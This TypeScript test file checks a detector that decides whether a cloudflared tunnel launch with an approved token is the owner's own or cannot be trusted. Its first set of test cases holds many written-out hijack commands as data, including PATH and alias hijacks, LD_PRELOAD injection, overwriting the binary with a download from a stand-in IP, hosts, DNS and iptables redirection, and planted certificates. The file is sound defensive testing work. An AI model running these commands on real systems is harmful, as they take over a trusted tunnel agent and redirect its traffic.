import { describe, expect, test } from "vitest";
import { approvedToken } from "./generated-records.ts";
import { bash, powershell, seen, started } from "./starts.ts";

const tool = "/usr/local/bin/cloudflared";
const toolExe = "C:\\Program Files\\cloudflared\\cloudflared.exe";
const quoted = `"${toolExe}"`;
const ours = "cloudflared tunnel run --token SECRET";
const oursX = `${tool} tunnel run --token SECRET`;
const inDocker = (options: string): string => `docker run -d ${options} cloudflare/cloudflared:latest tunnel run --token SECRET`;

describe("an approved token approves no other program and no other settings", () => {
	test.for<[string, [string, string]]>([
		["PATH= bash", bash(`PATH=/tmp/e:$PATH ${ours}`)],
		["export PATH", bash(`export PATH=/tmp/e:$PATH; ${ours}`)],
		["LD_PRELOAD", bash(`LD_PRELOAD=/tmp/x.so ${oursX}`)],
		["LD_LIBRARY_PATH env", ["/usr/bin/env", `env LD_LIBRARY_PATH=/tmp ${oursX}`]],
		["LD_PRELOAD sudo", ["/usr/bin/sudo", `sudo LD_PRELOAD=/tmp/x.so ${oursX}`]],
		["alias", bash(`shopt -s expand_aliases; alias cloudflared=/tmp/u; ${ours}`)],
		["function", bash(`cloudflared() { /tmp/u $@; }; ${ours}`)],
		["function2", bash(`function cloudflared { /tmp/u; }; ${ours}`)],
		["hash -p", bash(`hash -p /tmp/u cloudflared; ${ours}`)],
		["source", bash(`. /tmp/x.sh; ${ours}`)],
		[
			"its own variables, written before",
			bash(`echo TUNNEL_EDGE=203.0.113.9:7844 > /etc/default/cloudflared; . /etc/default/cloudflared; ${oursX}`),
		],
		["a file of variables, put in place", bash(`cp /tmp/e /etc/cloudflared/cf.env; . /etc/cloudflared/cf.env; ${oursX}`)],
		["another program's setup", bash(`eval $(/tmp/brew shellenv); ${ours}`)],
		["variables of somebody else", bash(`. /etc/default/x; ${ours}`)],
		["secrets put in by a vault", ["/usr/bin/doppler", `doppler run -- ${oursX}`]],
		["secrets put in by another vault", ["/usr/bin/op", `op run --env-file=.env -- ${oursX}`]],
		["a process manager's folder", ["/usr/local/bin/pm2", `pm2 start ./cloudflared --cwd /tmp -- tunnel run --token SECRET`]],
		["a process manager of another script", ["/usr/bin/node", `node /tmp/x.js pm2 start cloudflared -- tunnel run --token SECRET`]],
		[
			"a process manager with code of its own",
			["/usr/bin/node", `node --require=/tmp/x.js pm2 start cloudflared -- tunnel run --token SECRET`],
		],
		["a process manager's second program", ["/usr/local/bin/pm2", `pm2 start cloudflared /tmp/u -- tunnel run --token SECRET`]],
		["a process manager's option that nobody knows", ["/usr/local/bin/pm2", `pm2 start cloudflared --x -- tunnel run --token SECRET`]],
		["the folder of its variables", bash(`mount --bind /tmp/d /etc/default; . /etc/default/cloudflared; ${oursX}`)],
		["a file put into that folder", bash(`cp /tmp/cloudflared /etc/default/; . /etc/default/cloudflared; ${oursX}`)],
		["$env: joined", powershell(`$env:PATH = 'C:\\tmp;' + $env:PATH; ${ours}`)],
		["$env: joined, without blanks", powershell(`$env:PATH='C:\\tmp;' + $env:PATH; ${ours}`)],
		["$env: from a command", powershell(`$env:TUNNEL_EDGE = Get-Content C:\\tmp\\e; ${ours}`)],
		["$env: in braces, from a command", powershell(`\${env:TUNNEL_EDGE} = Get-Content C:\\tmp\\e; ${ours}`)],
		["brackets that end a group", ["cmd.exe", `cmd.exe /c (set PATH=C:\\tmp) & ${ours}`]],
		["source2", bash(`source /tmp/x.sh && ${ours}`)],
		["BASH_ENV", ["/usr/bin/env", `env BASH_ENV=/tmp/x bash -c "${oursX}"`]],
		["cmd set PATH", ["cmd.exe", `cmd.exe /c set PATH=C:\\tmp;%PATH%&& ${ours}`]],
		["cmd set quoted", ["cmd.exe", `cmd.exe /c "set "PATH=C:\\tmp;%PATH%" & ${ours}"`]],
		["cmd path", ["cmd.exe", `cmd.exe /c path C:\\tmp & ${ours}`]],
		["set edge", ["cmd.exe", `cmd.exe /c "set TUNNEL_EDGE=203.0.113.9:7844&& ${quoted} tunnel run --token SECRET"`]],
		["set /p edge", ["cmd.exe", `cmd.exe /c set /p TUNNEL_EDGE=<C:\\tmp\\e & ${ours}`]],
		["doskey", ["cmd.exe", `cmd.exe /c doskey cloudflared=C:\\tmp\\u.exe $* & ${ours}`]],
		["call bat", ["cmd.exe", `cmd.exe /c call C:\\tmp\\env.bat & ${ours}`]],
		["cmd cd public", ["cmd.exe", `cmd.exe /c cd /d C:\\Users\\Public & ${ours}`]],
		["cmd pushd share", ["cmd.exe", `cmd.exe /c pushd \\\\evil\\s & ${ours}`]],
		["sh cd tmp ./", bash(`cd /tmp/.x && ./${ours}`)],
		["ps set-alias", powershell(`set-alias cloudflared C:\\tmp\\u.exe; ${ours}`)],
		["ps function", powershell(`function cloudflared { C:\\tmp\\u.exe @args }; ${ours}`)],
		["ps new-alias", powershell(`nal cloudflared C:\\tmp\\u.exe; ${ours}`)],
		["ps env path", powershell(`$env:PATH='C:\\tmp;'+$env:PATH; ${ours}`)],
		["ps env path +=", powershell(`$env:PATH += ';C:\\tmp'; ${ours}`)],
		["ps set-item env", powershell(`Set-Item env:TUNNEL_EDGE 203.0.113.9:7844; & '${toolExe}' tunnel run --token SECRET`)],
		["ps set-item -path", powershell(`Set-Item -Path env:TUNNEL_EDGE -Value 203.0.113.9:7844; & '${toolExe}' tunnel run --token SECRET`)],
		["ps new-item env", powershell(`New-Item -Path Env: -Name TUNNEL_CACERT -Value C:\\x.pem; & '${toolExe}' tunnel run --token SECRET`)],
		[
			"ps SetEnv",
			powershell(`[Environment]::SetEnvironmentVariable('TUNNEL_EDGE','203.0.113.9:7844'); & '${toolExe}' tunnel run --token SECRET`),
		],
		[
			"ps SetEnv2",
			powershell(`[System.Environment]::SetEnvironmentVariable('TUNNEL_TOKEN_FILE','C:\\t'); & '${toolExe}' tunnel run --token SECRET`),
		],
		["ps SetEnv PATH", powershell(`[System.Environment]::SetEnvironmentVariable('PATH','C:\\tmp'); ${ours}`)],
		["ps dot source", powershell(`. C:\\tmp\\x.ps1; ${ours}`)],
		["ps sc function:", powershell(`Set-Item function:cloudflared { C:\\tmp\\u.exe }; ${ours}`)],
		["ps function: as a variable", powershell(`\${function:cloudflared} = { C:\\tmp\\u.exe }; ${ours}`)],
		["ps $alias:", powershell(`$alias:cloudflared = 'C:\\tmp\\u.exe'; ${ours}`)],
		["export TOKEN_FILE", bash(`export TUNNEL_TOKEN_FILE=/tmp/t; ${oursX}`)],
		["export $(cat)", bash(`export $(cat /tmp/env); ${oursX}`)],
		["set -a", bash(`set -a; . /tmp/env; set +a; ${oursX}`)],
		["read", bash(`read TUNNEL_EDGE </tmp/e; export TUNNEL_EDGE; ${oursX}`)],
		["printf -v", bash(`printf -v TUNNEL_EDGE 203.0.113.9:7844; export TUNNEL_EDGE; ${oursX}`)],
		["env -i", ["/usr/bin/env", `env -i TUNNEL_EDGE=203.0.113.9:7844 ${oursX}`]],
		["env -S", ["/usr/bin/env", `env -S "TUNNEL_EDGE=203.0.113.9:7844 ${oursX}"`]],
		["env -C", ["/usr/bin/env", `env -C /tmp ./${ours}`]],
		["systemd-run -E LD", ["/usr/bin/systemd-run", `systemd-run -E LD_PRELOAD=/tmp/x.so ${oursX}`]],
		["systemd-run --setenv HOME", ["/usr/bin/systemd-run", `systemd-run --setenv=HOME=/tmp/x ${oursX}`]],
		["systemd-run --setenv sep", ["/usr/bin/systemd-run", `systemd-run --setenv HOME=/tmp/x ${oursX}`]],
		["systemd-run EnvironmentFile", ["/usr/bin/systemd-run", `systemd-run -p EnvironmentFile=/tmp/e ${oursX}`]],
		["systemd-run RootDirectory", ["/usr/bin/systemd-run", `systemd-run -p RootDirectory=/tmp/e ${oursX}`]],
		["systemd-run BindPaths", ["/usr/bin/systemd-run", `systemd-run -p BindPaths=/tmp/u:${tool} ${oursX}`]],
		[
			"docker env",
			["/usr/bin/docker", `docker run -e TUNNEL_EDGE=203.0.113.9:7844 cloudflare/cloudflared:latest tunnel run --token SECRET`],
		],
		[
			"docker -eGlued",
			["/usr/bin/docker", `docker run -eTUNNEL_EDGE=203.0.113.9:7844 cloudflare/cloudflared:latest tunnel run --token SECRET`],
		],
		["docker env-file", ["/usr/bin/docker", `docker run --env-file /tmp/e cloudflare/cloudflared:latest tunnel run --token SECRET`]],
		[
			"docker mount over",
			["/usr/bin/docker", `docker run -v /tmp/u:/usr/local/bin/cloudflared cloudflare/cloudflared:latest tunnel run --token SECRET`],
		],
		[
			"docker mount config",
			["/usr/bin/docker", `docker run -v /tmp/c:/home/nonroot/.cloudflared cloudflare/cloudflared:latest tunnel run --token SECRET`],
		],
		[
			"docker add-host",
			[
				"/usr/bin/docker",
				`docker run --add-host region1.v2.argotunnel.com:203.0.113.9 cloudflare/cloudflared:latest tunnel run --token SECRET`,
			],
		],
		["sudo edge", ["/usr/bin/sudo", `sudo TUNNEL_EDGE=203.0.113.9:7844 ${oursX}`]],
		["ssh VAR", ["/usr/bin/ssh", `ssh host TUNNEL_EDGE=203.0.113.9:7844 ${oursX}`]],
		["HOME", bash(`HOME=/tmp/x ${oursX}`)],
		["a folder below a usual home", bash(`HOME=/root/.x ${oursX}`)],
		["a script beside the device's profile", bash(`. /etc/profile.d/../../tmp/x && ${oursX}`)],
		["the device's profile, and arguments for it", bash(`. /etc/profile /tmp/x && ${oursX}`)],
		["what Python loads", bash(`PYTHONPATH=/tmp/x ${oursX}`)],
		["another engine", bash(`DOCKER_HOST=tcp://203.0.113.9:2375 ${oursX}`)],
		["a container's unusual search path", ["/usr/bin/docker", inDocker("-e PATH=/data/x:/usr/bin")]],
		["Cloudflare's name for the device", ["/usr/bin/docker", inDocker("--add-host=region1.v2.argotunnel.com:host-gateway")]],
		["a volume behind a variable", ["/usr/bin/docker", inDocker("-e A=B -v /tmp/u:/usr/local/bin/cloudflared")]],
		["XDG", bash(`XDG_CONFIG_HOME=/tmp/x ${oursX}`)],
		["USERPROFILE", ["cmd.exe", `cmd.exe /c set USERPROFILE=C:\\tmp&& ${quoted} tunnel run --token SECRET`]],
		["SSL_CERT_FILE", bash(`SSL_CERT_FILE=/tmp/ca.pem ${oursX}`)],
		["a root beside those of the distribution", bash(`SSL_CERT_FILE=/etc/ssl/certs/../../../tmp/ca.crt ${oursX}`)],
		["GODEBUG", bash(`GODEBUG=netdns=cgo HOSTALIASES=/tmp/h ${oursX}`)],
		["cp over", bash(`cp /tmp/u ${tool}; ${oursX}`)],
		["ln over", bash(`ln -sf /tmp/u ${tool} && ${oursX}`)],
		["mount bind", bash(`mount --bind /tmp/u ${tool} && ${oursX}`)],
		["copy over", ["cmd.exe", `cmd.exe /c copy /y C:\\tmp\\u.exe ${quoted} & ${quoted} tunnel run --token SECRET`]],
		["ps copy over", powershell(`Copy-Item C:\\tmp\\u.exe '${toolExe}'; & '${toolExe}' tunnel run --token SECRET`)],
		["curl other over", bash(`curl -so ${tool} http://203.0.113.9/u; chmod +x ${tool}; ${oursX}`)],
		["config written", bash(`echo edge: 203.0.113.9:7844 > ~/.cloudflared/config.yml; ${oursX}`)],
		["config copied", bash(`cp /tmp/c.yml /etc/cloudflared/config.yml; ${oursX}`)],
		["hosts", bash(`echo 203.0.113.9 region1.v2.argotunnel.com >> /etc/hosts; ${oursX}`)],
		["eval $x", bash(`eval "$x"; ${ours}`)],
		["$x cmd", bash(`$x; ${ours}`)],
		["trap debug", bash(`trap "export LD_PRELOAD=/tmp/x" DEBUG; ${oursX}`)],
		["cmd v:on delayed", ["cmd.exe", `cmd /v:on /c "set A=TUNNEL_EDGE=203.0.113.9:7844&& set !A!&& ${quoted} tunnel run --token SECRET"`]],
		["su env", ["/usr/bin/su", `su -c "LD_PRELOAD=/tmp/x.so ${oursX}" root`]],
		["doas", ["/usr/bin/doas", `doas env HOME=/tmp ${oursX}`]],
		["chroot", ["/usr/sbin/chroot", `chroot /tmp/r ${oursX}`]],
		["unshare root", ["/usr/bin/unshare", `unshare -R /tmp/r ${oursX}`]],
		["bwrap bind", ["/usr/bin/bwrap", `bwrap --bind /tmp/u ${tool} ${oursX}`]],
		["ld.so preload", ["/lib64/ld-linux-x86-64.so.2", `/lib64/ld-linux-x86-64.so.2 --preload /tmp/x.so ${oursX}`]],
		["ld.so library-path", ["/lib64/ld-linux-x86-64.so.2", `/lib64/ld-linux-x86-64.so.2 --library-path /tmp ${oursX}`]],
		["nsenter", ["/usr/bin/nsenter", `nsenter -t 4711 -m -n ${oursX}`]],
		["gdb", ["/usr/bin/gdb", `gdb -ex "set environment LD_PRELOAD /tmp/x.so" -ex run --args ${oursX}`]],
		[
			"reg env",
			["cmd.exe", `cmd.exe /c reg add HKCU\\Environment /v TUNNEL_EDGE /d 203.0.113.9:7844 & ${quoted} tunnel run --token SECRET`],
		],
		["setx", ["cmd.exe", `cmd.exe /c setx TUNNEL_EDGE 203.0.113.9:7844 & ${quoted} tunnel run --token SECRET`]],
		["zsh: hash", ["/bin/zsh", `zsh -c "hash cloudflared=/tmp/u; ${ours}"`]],
		["fish: set -x", ["/usr/bin/fish", `fish -c "set -x PATH /tmp/e $PATH; ${ours}"`]],
		["a module of somebody's own", powershell(`Import-Module C:\\tmp\\m.psm1; ${ours}`)],
		["start in a folder", ["cmd.exe", `cmd.exe /c start /d C:\\Users\\Public cloudflared.exe tunnel run --token SECRET`]],
		[
			"Start-Process in a folder",
			powershell(
				`Start-Process -WorkingDirectory C:\\Users\\Public -FilePath .\\cloudflared.exe -ArgumentList 'tunnel run --token SECRET'`,
			),
		],
		["ssh with a variable", ["/usr/bin/ssh", `ssh -o SetEnv=TUNNEL_EDGE=203.0.113.9:7844 host ${oursX}`]],
		["an authority of somebody's own", bash(`cp /tmp/ca.crt /usr/local/share/ca-certificates/ && update-ca-certificates; ${oursX}`)],
		["other name servers", bash(`echo nameserver 203.0.113.9 > /etc/resolv.conf; ${oursX}`)],
		["connections led elsewhere", bash(`iptables -t nat -A OUTPUT -p tcp --dport 7844 -j DNAT --to 203.0.113.9:7844; ${oursX}`)],
		["a word that a variable adds in front", bash(`$SUDO ${oursX}`)],
	])("%s", ([, [program, commandLine]]) => {
		const sighting = started(program, commandLine, approvedToken);
		expect(sighting?.ownership.verdict).toBe("cannot-tell");
		expect(sighting?.quiet).toBeUndefined();
	});

	test.for([
		["a library that its parent's shell preloads", "/bin/bash", `bash -c "export LD_PRELOAD=/tmp/x.so; ${oursX}"`],
		["a home of its own", "/usr/bin/env", `env HOME=/tmp/x ${oursX}`],
	])("%s, in the row of the process itself", ([, parent = "", line = ""]) => {
		expect(child(parent, line)?.ownership.verdict).toBe("cannot-tell");
	});
});

describe("everyday words around an approved start leave it ours", () => {
	test.for<[string, [string, string]]>([
		["PATH std", bash(`export PATH=$PATH:/usr/local/bin; ${ours}`)],
		["PATH std2", bash(`PATH=/usr/local/sbin:/usr/local/bin:/usr/bin:/bin ${ours}`)],
		["sh cd opt std", bash(`cd /usr/local/bin && ./${ours}`)],
		["env -i clean", ["/usr/bin/env", `env -i LANG=C ${oursX}`]],
		["env -S ok", ["/usr/bin/env", `env -S "LANG=C ${oursX}"`]],
		["systemd-run ok", ["/usr/bin/systemd-run", `systemd-run -u cf -p Restart=always ${oursX}`]],
		[
			"docker ok",
			[
				"/usr/bin/docker",
				`docker run -d --restart unless-stopped -e TZ=UTC -e TUNNEL_METRICS=0.0.0.0:2000 cloudflare/cloudflared:latest tunnel --no-autoupdate run --token SECRET`,
			],
		],
		[
			"harmless",
			bash(
				`LANG=C TZ=UTC NO_AUTOUPDATE=true TUNNEL_LOGLEVEL=debug TUNNEL_METRICS=localhost:2000 TUNNEL_RETRIES=5 TUNNEL_TRANSPORT_PROTOCOL=http2 ${oursX}`,
			),
		],
		["harmless cmd", ["cmd.exe", `cmd.exe /c "set TUNNEL_LOGLEVEL=info&& set TZ=UTC&& ${quoted} tunnel run --token SECRET"`]],
		["harmless ps", powershell(`$env:TUNNEL_LOGLEVEL='info'; & '${toolExe}' tunnel run --token SECRET`)],
		["harmless https_proxy", bash(`HTTPS_PROXY=http://proxy:3128 ${oursX}`)],
		["harmless echo alias", bash(`echo using alias; ${oursX}`)],
		["harmless umask", bash(`umask 077; ulimit -n 65535; cd /; ${oursX}`)],
		["harmless exec", bash(`set -e; exec ${oursX}`)],
		[
			"curl official",
			bash(
				`curl -L -o ${tool} https://github.com/cloudflare/cloudflared/releases/latest/download/cloudflared-linux-amd64; chmod +x ${tool}; ${oursX}`,
			),
		],
		["mv release", bash(`mv cloudflared-linux-amd64 ${tool}; ${oursX}`)],
		["if defined harmless", ["cmd.exe", `cmd.exe /c if exist ${quoted} ${quoted} tunnel run --token SECRET`]],
		["setx harmless", ["cmd.exe", `cmd.exe /c setx TUNNEL_LOGLEVEL debug & ${quoted} tunnel run --token SECRET`]],
		["export -n harmless", bash(`unset HISTFILE; ${oursX}`)],
		["its own folder", powershell(`Set-Location 'C:\\Program Files\\cloudflared'; .\\${ours}`)],
		["variables kept by their names", ["/usr/bin/sudo", `sudo --preserve-env=HOME ${oursX}`]],
		["a loop", bash(`until ping -c1 192.0.2.1; do sleep 1; done; exec ${oursX}`)],
		["a look at the settings", bash(`mkdir -p /etc/cloudflared; cat /etc/cloudflared/config.yml; ${oursX}`)],
		["a home that su sets", bash(`HOME=/root ${oursX}`)],
		["a home of the service", ["/usr/bin/sudo", `sudo HOME=/var/lib/cloudflared ${oursX}`]],
		["a home in a unit", ["/usr/bin/systemd-run", `systemd-run -p Environment=HOME=/root ${oursX}`]],
		["a session's folder", bash(`XDG_RUNTIME_DIR=/run/user/1000 ${oursX}`)],
		["another program's output", bash(`PYTHONUNBUFFERED=1 DOCKER_BUILDKIT=1 ${oursX}`)],
		["the profile of the device", bash(`. /etc/profile && ${oursX}`)],
		["a container's usual search path", ["/usr/bin/docker", inDocker("-e PATH=/usr/local/sbin:/usr/local/bin:/usr/bin:/bin")]],
		["a container's usual search path, joined", ["/usr/bin/docker", inDocker("--env=PATH=/usr/local/bin:/usr/bin")]],
		["the roots of the distribution", bash(`SSL_CERT_FILE=/etc/ssl/certs/ca-certificates.crt SSL_CERT_DIR=/etc/ssl/certs ${oursX}`)],
		["a container's own home", ["/usr/bin/docker", inDocker("-e HOME=/home/nonroot")]],
		["a container that reaches its host", ["/usr/bin/docker", inDocker("--add-host host.docker.internal:host-gateway")]],
		["a container that reaches its host, joined", ["/usr/bin/docker", inDocker("--add-host=host.docker.internal:host-gateway")]],
		["a container's first process", ["/usr/bin/catatonit", `catatonit -- ${oursX}`]],
		["a supervisor's user", ["/command/s6-setuidgid", `s6-setuidgid nonroot ${oursX}`]],
		["a container's user", ["/usr/local/bin/gosu", `gosu nonroot ${oursX}`]],
		["a container's user and group", ["/sbin/su-exec", `su-exec cloudflared:cloudflared ${oursX}`]],
		["a device kept awake", ["/usr/bin/systemd-inhibit", `systemd-inhibit --what sleep --why tunnel ${oursX}`]],
		["output for the journal", ["/usr/bin/systemd-cat", `systemd-cat -t cloudflared ${oursX}`]],
		["the setup of a package manager", bash(`eval $(/opt/homebrew/bin/brew shellenv); ${ours}`)],
		["the setup of an agent", bash(`eval $(ssh-agent -s); ${ours}`)],
		["its own variables", bash(`set -a; . /etc/default/cloudflared; set +a; exec ${oursX}`)],
		["a unit's own variables", ["/usr/bin/systemd-run", `systemd-run -p EnvironmentFile=-/etc/sysconfig/cloudflared ${oursX}`]],
		["a container's own variables", ["/usr/bin/docker", inDocker("--env-file /etc/cloudflared/env")]],
		["a search path with brackets", ["cmd.exe", `cmd.exe /c set PATH=%PATH%;C:\\Program Files (x86)\\cloudflared& ${ours}`]],
		["a package of the distribution", ["/usr/bin/nix", "nix run nixpkgs#cloudflared -- tunnel run --token SECRET"]],
		["a result that is kept", powershell(`$o = & '${toolExe}' service install SECRET`)],
		["a process manager", ["/usr/local/bin/pm2", `pm2 start cloudflared --name cf -- tunnel run --token SECRET`]],
		["a recorded session", ["/usr/bin/asciinema", `asciinema rec -c "${ours}" demo.cast`]],
		["a log", bash(`${oursX} >> /var/log/cloudflared.log 2>&1`)],
	])("%s", ([, [program, commandLine]]) => {
		expect(started(program, commandLine, approvedToken)?.ownership.verdict).toBe("ours");
	});

	test("a search path of its parent's: the row names the program itself", () => {
		expect(child("/bin/bash", `bash -c "export PATH=/opt/x:$PATH; ${ours}"`)?.ownership.verdict).toBe("ours");
	});
});

function child(parent: string, line: string): ReturnType<typeof seen> {
	return seen("DeviceProcessEvents", {
		FileName: "cloudflared",
		FolderPath: tool,
		ProcessCommandLine: oursX.replace("SECRET", approvedToken),
		InitiatingProcessFileName: parent.slice(parent.lastIndexOf("/") + 1),
		InitiatingProcessFolderPath: parent,
		InitiatingProcessCommandLine: line.replace("SECRET", approvedToken),
	});
}
